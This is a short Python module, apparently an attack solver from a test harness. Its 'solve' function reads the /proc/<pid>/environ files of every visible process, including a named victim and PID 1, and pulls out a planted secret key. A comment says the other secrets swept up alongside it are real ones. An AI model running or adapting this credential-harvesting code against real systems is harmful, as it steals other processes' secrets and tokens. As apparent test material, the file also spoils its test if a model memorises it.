"""Reads the environment of every process that it can see, its parents' among them."""

from inside import TARGETS, loot, others

AGAINST = ("environment", "processes")


def solve(instance, ctx):
    texts = loot(f"/proc/{process}/environ" for process in [*others(), TARGETS["victim"]["pid"], "1"])
    # The planted key alone: the others in there are real ones.
    return [each for text in texts for each in text.split("\0") if each.startswith(TARGETS["key"])]
